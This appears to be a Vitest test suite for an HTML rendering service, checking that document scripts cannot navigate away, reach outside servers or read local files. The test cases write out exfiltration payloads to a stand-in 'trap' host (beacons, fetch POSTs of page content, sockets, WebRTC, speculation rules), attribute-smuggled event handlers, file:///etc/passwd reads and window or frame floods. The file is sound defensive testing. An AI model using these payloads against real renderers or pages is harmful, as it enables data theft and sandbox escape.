/** Every way in which the scripts of a document can try to leave its page. */
import { beforeAll, describe, expect, inject, it } from 'vitest'
import { trapped } from '../support/outgoing'
import { applySchema } from '../support/schema'
import { problemOf, render } from '../support/service'

const { site, trap } = inject('origins')

beforeAll(() => applySchema())

describe('a document that tries to leave', () => {
  const escapes: [string, string][] = [
    ['location', `location = '${trap}/location'`],
    ['location.replace', `location.replace('${trap}/replace')`],
    ['location.reload', 'location.reload()'],
    ['a form', `document.forms[0].submit()`],
    ['a form into a new window', `document.forms[0].target = '_blank'; document.forms[0].submit()`],
    ['window.open', `open('${trap}/open'); open('${trap}/open', '_top')`],
    ['a click on a link', 'document.links[0].click()'],
    ['a click on a link into a new window', `document.links[0].target = '_blank'; document.links[0].click()`],
    ['a ping', `document.links[0].ping = '${trap}/ping'; document.links[0].click()`],
    ['history', `history.pushState(0, '', '#there'); history.back(); history.go(-2); navigation.back()`],
    ['a beacon', `navigator.sendBeacon('${trap}/beacon', 'stolen')`],
    [
      'a frame',
      `document.body.append(Object.assign(document.createElement('iframe'), { src: '${trap}/frame' }))`,
    ],
    [
      'a frame with a document of its own',
      `document.body.append(Object.assign(document.createElement('iframe'),
        { srcdoc: '<script>top.location = "${trap}/top"; fetch("${trap}/srcdoc")<' + '/script>' }))`,
    ],
    [
      'a frame’s own sockets',
      `const frame = document.createElement('iframe'); document.body.append(frame)
       for (const name of ['EventSource', 'WebTransport', 'WebSocket'])
         try { new frame.contentWindow[name]((name === 'WebSocket' ? 'ws' : 'http') + '${trap.slice(4)}/socket') } catch {}`,
    ],
    ['a socket', `new WebSocket('${trap.replace('http', 'ws')}/socket')`],
    ['events', `new EventSource('${trap}/events')`],
    ['a worker', `new Worker(URL.createObjectURL(new Blob(['fetch("${trap}/worker")'])))`],
    ['an import', `import('${trap}/module.js').catch(() => {})`],
    [
      'a request',
      `fetch('${trap}/fetch', { method: 'POST', body: document.body.innerHTML }).catch(() => {})`,
    ],
    ['a style', `document.head.insertAdjacentHTML('beforeend', '<style>@import "${trap}/css"</style>')`],
    [
      'hints',
      `for (const rel of ['preload', 'prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'modulepreload', 'manifest'])
        document.head.append(Object.assign(document.createElement('link'), { rel, href: '${trap}/' + rel, as: 'image' }))`,
    ],
    [
      'speculation rules',
      `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules',
        textContent: '{"prerender":[{"source":"list","urls":["${trap}/rules"]}]}' }))`,
    ],
    [
      'a peer connection',
      `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(trap).host}' }] })
       peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
    ],
    ['a dialogue', `alert('stop'); confirm('stop'); prompt('stop')`],
    ['a print', 'print()'],
  ]

  it.each(escapes)('by %s stands as it was, and reaches no server', async (_, script) => {
    const html = `<p>stays</p><form action="${trap}/form" method="post"><input name="a" value="1"></form>
      <a href="${trap}/link">link</a><p>whole</p><script>try { ${script} } catch {}</script>`
    const { text, pages } = await render(html, { options: { wait_for: { ms: 150 } } })
    expect(pages).toHaveLength(1)
    expect(text).toContain('stays')
    expect(text).toContain('whole')
    expect(await trapped()).toEqual([])
  })

  it('by a meta refresh stands as it was, and reaches no server', async () => {
    const { text } = await render(`<meta http-equiv="refresh" content="0;url=${trap}/refresh"><p>stays</p>`, {
      options: { wait_for: { ms: 300 } },
    })
    expect(text).toContain('stays')
    expect(await trapped()).toEqual([])
  })

  it.each([
    ['a handler behind a slash', `<svg/onload="fetch('${trap}/svg'); document.body.append('ran')">`],
    [
      'a handler behind a quote',
      `<img src="${site}/missing"onerror="fetch('${trap}/quote'); document.body.append('ran')">`,
    ],
  ])('by %s runs under the rules of scripts', async (_, html) => {
    const { text } = await render(`<p>stays</p>${html}`)
    expect(text).toContain('ran')
    expect(await trapped()).toEqual([])
  })

  it('without scripts finds no file of this machine either', async () => {
    const { text, headers } = await render(`<p>stays</p><img src="file:///etc/passwd" alt="none">
      <link rel="stylesheet" href="file:///etc/passwd"><style>@import "file:///etc/passwd"</style>`)
    expect(text.trim().replace(/\s+/g, ' ')).toBe('stays none')
    expect(headers.get('x-warnings') ?? '').not.toContain('root:')
  })

  it('while it is being read stands as it did then, with a warning', async () => {
    const html = `<p>stays</p><script>location = '${trap}/early'</script>${'<p>much</p>'.repeat(2000)}`
    const { text, headers } = await render(html)
    expect(text).toContain('stays')
    expect(headers.get('x-warnings')).toContain('tried to navigate away')
    expect(await trapped()).toEqual([])
  })

  it('by a refresh while a style sheet is on its way stands as it did then, at once', async () => {
    const sheet = `${site}/narrow-page.css?after=300&unique=${crypto.randomUUID()}`
    const html = `<meta http-equiv="refresh" content="0;url=${trap}/refresh"><p>stays</p><link rel="stylesheet" href="${sheet}">`
    expect((await render(html, { options: { timeout: 20 } })).text).toContain('stays')
    expect(await trapped()).toEqual([])
  })

  it('by a refresh without scripts is measured with a style sheet that is slow', async () => {
    const sheet = `${site}/label.css?after=600&unique=${crypto.randomUUID()}`
    const html = `<!doctype html><meta http-equiv="refresh" content="0;url=${trap}/refresh"><p>x</p><link rel="stylesheet" href="${sheet}">`
    const { detail } = await problemOf({ html, options: { prefer_css_page_size: true } })
    expect(detail).toMatch(/margins .* leave no printable area/)
    expect(await trapped()).toEqual([])
  })

  it.each([`${trap}/early`, 'mailto:a@example.com'])(
    'to %s while a style sheet is on its way stands as it did then, at once',
    async (target) => {
      const sheet = `${site}/narrow-page.css?after=300&unique=${crypto.randomUUID()}`
      const html = `<p>stays</p><link rel="stylesheet" href="${sheet}"><script>location = '${target}'</script><p>cut off</p>`
      const { text } = await render(html, { options: { timeout: 20 } })
      expect(text).toContain('stays')
      expect(await trapped()).toEqual([])
    },
  )

  it('by opening windows without end leaves the next document alone', async () => {
    await render(`<p>x</p><script>for (let n = 0; n < 500; n++) open('about:blank', 'w' + n)</script>`)
    expect((await render('<p>next')).text.trim()).toBe('next')
  })

  it('by frames without end leaves the next document alone', async () => {
    await render(
      `<p>x</p><script>for (let n = 0; n < 300; n++) document.body.append(document.createElement('iframe'))</script>`,
    )
    expect((await render('<p>next')).text.trim()).toBe('next')
  })

  it('finds no file of this machine', async () => {
    const html = `<p>stays</p><img src="file:///etc/passwd"><iframe src="file:///etc/passwd"></iframe>
      <object data="file:///etc/passwd"></object><script>fetch('file:///etc/passwd').then((a) => a.text())
      .then((t) => document.body.append(t), () => document.body.append('refused'))</script>`
    const { text } = await render(html, { options: { wait_for: { ms: 150 } } })
    expect(text).toContain('refused')
    expect(text).not.toContain('root:')
  })
})
